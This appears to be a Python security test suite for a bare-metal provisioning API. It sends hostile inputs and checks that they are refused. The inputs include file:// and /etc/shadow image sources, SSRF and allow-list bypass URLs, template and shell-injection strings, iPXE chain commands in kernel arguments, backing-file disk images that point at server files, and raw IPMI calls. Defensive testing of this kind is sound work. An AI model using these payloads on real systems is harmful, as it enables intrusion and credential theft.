#!/usr/bin/env python3
"""Users of a project send what the CVEs of other bare-metal services let through: local files as images, code in
templates and kernel arguments, raw IPMI without being an administrator, passwords of registries that others read,
addresses beyond the allow-list, and images without a digest."""
import base64
import hashlib
import json
import pathlib
import subprocess
import sys
import urllib.parse

from attack import Service, Web, call, inventory, patch, provision, refused, token, users, wait_until

PASSWORD = "registry-password-7f3a"
WANTED = "a" * 64


def deployed(service, secret, info):
    """(status, text) of the refusal, or the state and all that the API tells about the failed deployment."""
    code, text = patch(service, secret, "web-1", "/instance_info", info)
    if code != 200:
        return code, text
    code, text = provision(service, secret, "web-1", "active")
    if code != 202:
        return code, text
    state = []

    def over():
        state[:] = [json.loads(call(service, None, "GET", "/v1/nodes/web-1")[1])["provision_state"]]
        return state[0] in ("deploy failed", "active")
    assert wait_until(over, 60, 0.1), state
    return state[0], "".join(call(service, None, "GET", path)[1] for path in ("/v1/nodes/web-1", "/v1/nodes/web-1/operation", "/v1/images"))


def local_files(service, user):
    """No spelling of a local file is an image, a checksum file or a config drive."""
    disk = service.disk_image("local.img")
    digest = hashlib.sha256(pathlib.Path(disk).read_bytes()).hexdigest()
    for source in (f"file://{disk}", f"file://localhost{disk}", f"FILE://{disk}", f"file:{disk}", disk, f"./../../../..{disk}", f"http:///{disk}",
                   f"http://[file://{disk}]/", f"unix://{disk}", f"json:{{\"file\": \"{disk}\"}}", f"nbd+unix:///?socket={disk}", "dict://127.0.0.1:11211/stats",
                   f"http://127.0.0.1\n{disk}", f" file://{disk}", f"\tfile://{disk}"):
        outcome, text = deployed(service, user, {"image_source": source, "image_checksum": digest})
        assert outcome in (400, 404, 409), (source, outcome, text)
        imported = service.run("image", "add", source, "--name", "local", check=False) if "://" in source.strip() else None
        assert imported is None or imported.returncode != 0, source
    for checksum in (f"file://{disk}", "file:///etc/shadow", "/etc/shadow"):
        refused(deployed(service, user, {"image_source": "http://127.0.0.1:1/disk.img", "image_checksum": checksum}))
    service.run("image", "add", disk, "--name", "own")
    code, text = patch(service, user, "web-1", "/instance_info", {"image_source": "own"})
    assert code == 200, text
    for drive in ("file:///etc/shadow", "/etc/shadow", "http://127.0.0.1:1/drive", "../../etc/shadow"):
        refused(provision(service, user, "web-1", "active", configdrive=drive), "base64")


def reference_to_a_file(service, user, web, folder):
    """A tenant's image that refers to a file of the server: the digest is right, and the image is refused."""
    victim = folder / "victim.raw"
    victim.write_bytes(b"the server's own file".ljust(1 << 20, b"\0"))
    image = folder / "evil.qcow2"
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2", "-F", "raw", "-b", victim, image], check=True)
    descriptor = (f"# Disk DescriptorFile\nversion=1\nCID=1\nparentCID=ffffffff\ncreateType=\"monolithicFlat\"\n"
                  f"RW 2048 FLAT \"{victim}\" 0\n").encode().ljust(1024, b"\n")
    for name, content in (("evil.qcow2", image.read_bytes()), ("evil.vmdk", descriptor)):
        web.content = content
        outcome, text = deployed(service, user, {"image_source": web.url(name), "image_checksum": hashlib.sha256(content).hexdigest()})
        assert outcome == "deploy failed" and "the server's own file" not in text, (name, outcome, text)
        assert name == "evil.vmdk" or "backing file" in text, text


def templates_and_arguments(service, user, admin):
    """Text that other services expand or run is stored as it is, or refused; nothing expands it."""
    hostile = ["{{ 7*7 }}", "{% include '/etc/shadow' %}", "${7*7}", "$(touch /tmp/bm-attack)", "`touch /tmp/bm-attack`", "%(secret)s", "{0.__class__}"]
    for text in hostile:
        code, told = patch(service, user, "web-1", "/instance_info/kernel_append_params", text)
        if code == 200:
            assert json.loads(told)["instance_info"]["kernel_append_params"] == text, told
        for step in ({"interface": "deploy", "step": text, "priority": 50}, {"interface": "deploy", "step": "erase_devices_metadata", "args": {"x": text}, "priority": 50}):
            refused(provision(service, user, "web-1", "active", deploy_steps=[step]))
    for text in ("a\nchain http://192.0.2.1/x", "quiet || chain http://192.0.2.1/x", "a && shell", "${netX/mac}", "# boot", "a\r\nshell", "a\0b", "é"):
        refused(patch(service, user, "web-1", "/instance_info/kernel_append_params", text), "kernel_append_params")
    rule = {"description": "hostile", "sensitive": False, "conditions": [],
            "actions": [{"op": "set-attribute", "args": {"path": "/extra/seen", "value": "{{ 7*7 }} {node.driver_info} {inventory[cpu]}"}}]}
    code, text = call(service, admin, "POST", "/v1/inspection_rules", rule)
    assert code in (400, 403, 404, 201), text
    assert not pathlib.Path("/tmp/bm-attack").exists()


def raw_ipmi(service, tokens):
    """Raw bytes to a BMC are for administrators of the system, by every way that leads there."""
    watchers = {"system-reader": token(service, "reader"), "system-member": token(service, "member", "--role", "member"),
                "system-manager": token(service, "manager", "--role", "manager"), **tokens}
    step = {"interface": "vendor", "step": "send_raw", "args": {"raw_bytes": "0x3c 0x01"}}
    for name, secret in watchers.items():
        for path in ("/v1/nodes/bmc-1/vendor_passthru/send_raw", "/v1/nodes/bmc-1/vendor_passthru?method=send_raw", "/v1/nodes/bmc-1/vendor_passthru/bmc_reset",
                     "/v1/drivers/ipmi/vendor_passthru?method=send_raw"):
            for method in ("POST", "PUT", "GET", "DELETE", "PATCH"):
                code, text = call(service, secret, method, path, {"raw_bytes": "0x3c 0x01"} if method != "GET" else None)
                assert code in (403, 404), (name, method, path, code, text)
        for target, field in (("active", "deploy_steps"), ("clean", "clean_steps"), ("service", "service_steps")):
            code, text = provision(service, secret, "bmc-1", target, **{field: [{**step, **({"priority": 5} if target == "active" else {})}]})
            assert code in (400, 403, 404, 406, 409), (name, target, code, text)
    assert "0x3c" not in service.log_text()


def secrets_of_a_registry(service, tokens, shop, web):
    """A user who may see a node does not see the passwords that its owner stored with it."""
    url = f"https://robot:{PASSWORD}@registry.example/web/disk.img"
    fields = {"image_source": url, "image_pull_secret": PASSWORD, "image_checksum": "a" * 64, "registry": {"auth": {"password": PASSWORD}}, "mirrors": [url]}
    code, text = patch(service, tokens["admin"], "web-1", "/instance_info", fields)
    assert code == 200 and PASSWORD not in text, text
    watchers = {"system": None, "system-reader": token(service, "onlooker"), **tokens, "lessee": shop}
    for name, secret in watchers.items():
        for path in ("/v1/nodes/web-1", "/v1/nodes?fields=instance_info,extra,driver_info,name", "/v1/nodes/detail", "/v1/nodes/web-1/operation", "/v1/images",
                     "/v1/events?limit=1000", "/v1/nodes/web-1/events", "/v1/audit?limit=1000", "/v1/nodes/web-1/history"):
            code, text = call(service, secret, "GET", path)
            assert PASSWORD not in text and urllib.parse.quote(PASSWORD) not in text, (name, path, code, text)
    for words in (("node", "list", "--wide"), ("node", "show", "web-1"), ("node", "show", "web-1", "-o", "json"), ("node", "timeline", "web-1")):
        done = service.run(*words, check=False)
        assert PASSWORD not in done.stdout + done.stderr, (words, done)
    assert PASSWORD not in service.log_text()
    # Hidden is not lost: the digest is not that of bmd's answer, but the deployment asks with the login.
    web.content = b"x"
    outcome, text = deployed(service, tokens["admin"], {"image_source": web.url("private.img").replace("http://", f"http://robot:{PASSWORD}@"), "image_checksum": WANTED})
    assert outcome == "deploy failed" and PASSWORD not in text, text
    assert any(PASSWORD in base64.b64decode(login.split()[-1]).decode() for login in web.logins if login), web.logins


def without_a_digest(service, user, web):
    """Nothing is deployed whose bytes nobody vouched for."""
    content = web.content = pathlib.Path(service.disk_image("plain.img")).read_bytes()
    good = hashlib.sha256(content).hexdigest()
    url = web.url("plain.img")
    for info in ({}, {"image_checksum": ""}, {"image_checksum": hashlib.md5(content).hexdigest()}, {"image_checksum": "md5:" + hashlib.md5(content).hexdigest()},
                 {"image_checksum": "sha1:" + hashlib.sha1(content).hexdigest()}, {"image_checksum": "none"}, {"image_checksum": "sha256:"}, {"image_checksum": good[:40]},
                 {"image_os_hash_algo": "md5", "image_os_hash_value": hashlib.md5(content).hexdigest()},
                 {"image_os_hash_algo": "", "image_os_hash_value": good}, {"image_os_hash_algo": "crc32", "image_os_hash_value": "0"},
                 {"image_checksum": True}, {"image_disk_format": "raw", "image_checksum": None}):
        outcome, text = deployed(service, user, {"image_source": url, **info})
        assert outcome == 400, (info, outcome, text)
    outcome, text = deployed(service, user, {"image_source": url, "image_checksum": WANTED})
    assert outcome == "deploy failed" and "checksum" in text, (outcome, text)
    # The right digest beside a wrong one does not help, whichever is looked at.
    outcome, text = deployed(service, user, {"image_source": url, "image_checksum": good, "image_os_hash_algo": "sha256", "image_os_hash_value": WANTED})
    assert outcome == "deploy failed", (outcome, text)
    # A server that changes the file between the two answers.
    web.content, web.then = content[:-1] + b"\1", content
    outcome, text = deployed(service, user, {"image_source": web.url("turning.img"), "image_checksum": "sha512:" + hashlib.sha512(b"neither").hexdigest()})
    assert outcome == "deploy failed", (outcome, text)
    web.content, web.then = content, None
    outcome, text = deployed(service, user, {"image_source": web.url("right.img"), "image_checksum": good})
    assert outcome == "active", (outcome, text)
    assert provision(service, user, "web-1", "deleted")[0] == 202
    assert wait_until(lambda: json.loads(call(service, None, "GET", "/v1/nodes/web-1")[1])["provision_state"] == "available", 60, 0.1)


def allow_lists(build, web, internal):
    """outgoing.projects_only holds for every address that a project's user writes, and at redirects."""
    with Service(build, outgoing=f"  allow: [127.0.0.0/8]\n  projects_only: [\"127.0.0.1:{web.port}\"]\n") as service:
        service.run("node", "enrol", "-f", service.file("nodes.yaml", inventory({"web-1": {}})), "--provide", "--wait")
        service.run("node", "set", "web-1", "owner=web")
        user = token(service, "manager", "--role", "manager", "--project", "web")
        inner = f"127.0.0.1:{internal.port}"
        for info in ({"image_source": f"http://{inner}/disk.img", "image_checksum": WANTED},
                     {"image_source": f"http://localhost:{web.port}/disk.img", "image_checksum": WANTED},
                     {"image_source": web.url("disk.img"), "image_checksum": f"http://{inner}/SHA256SUMS"},
                     {"image_source": f"http://127.0.0.1:{web.port}/to/http://{inner}/disk.img", "image_checksum": WANTED},
                     {"image_source": f"http://user@{inner}/disk.img", "image_checksum": WANTED},
                     {"image_source": f"http://127.0.0.1:{web.port}@{inner}/disk.img", "image_checksum": WANTED},
                     {"image_source": f"http://{inner}#@127.0.0.1:{web.port}/disk.img", "image_checksum": WANTED},
                     {"image_source": f"http://{inner}\\@127.0.0.1:{web.port}/disk.img", "image_checksum": WANTED}):
            outcome, text = deployed(service, user, info)
            assert outcome in (400, "deploy failed"), (info, outcome, text)
        assert not internal.asked, internal.asked


class Files(Web):
    """A web server with one content under all names; @then replaces it after the first answer with a body."""

    def __init__(self):
        super().__init__()
        self.content, self.then, self.logins = b"", None, []
        handler, site = self.server.RequestHandlerClass, self
        redirect = handler.do_GET

        def do_GET(request):
            if request.path.startswith("/to/"):
                redirect(request)
                return
            site.asked.append(request.path)
            site.logins.append(request.headers.get("Authorization"))
            content = site.content
            request.send_response(200)
            request.send_header("Content-Length", str(len(content)))
            request.end_headers()
            if request.command == "GET":
                request.wfile.write(content)
                if site.then is not None:
                    site.content = site.then

        handler.do_GET = handler.do_HEAD = do_GET

    def url(self, name):
        return f"http://127.0.0.1:{self.port}/{name}"


def main():
    build = sys.argv[1]
    web, internal = Files(), Web()
    try:
        with Service(build) as service:
            folder = pathlib.Path(service.folder.name)
            service.run("node", "enrol", "-f", service.file("nodes.yaml", inventory({"web-1": {}})), "--provide", "--wait")
            service.run("node", "enrol", "-f", service.file("bmc.yaml", "nodes:\n  - {name: bmc-1, driver: ipmi, driver_info: {ipmi_address: 192.0.2.7, ipmi_username: u, "
                                                                        "ipmi_password: p}, ports: [{address: \"52:54:02:00:00:01\"}]}\n"))
            service.run("node", "set", "web-1", "owner=web", "lessee=shop", "automated_clean=false")
            service.run("node", "set", "bmc-1", "owner=web")
            tokens = users(service, "web")
            shop = token(service, "shop-reader", "--role", "reader", "--project", "shop")
            for part, arguments in ((local_files, (tokens["admin"],)), (reference_to_a_file, (tokens["admin"], web, folder)),
                                    (templates_and_arguments, (tokens["admin"], tokens["admin"])), (raw_ipmi, (tokens,)),
                                    (without_a_digest, (tokens["admin"], web)), (secrets_of_a_registry, (tokens, shop, web))):
                if len(sys.argv) < 3 or part.__name__ in sys.argv[2:]:
                    part(service, *arguments)
                    print(part.__name__, flush=True)
        allow_lists(build, web, internal)
        print("allow_lists")
    finally:
        web.close()
        internal.close()


if __name__ == "__main__":
    main()
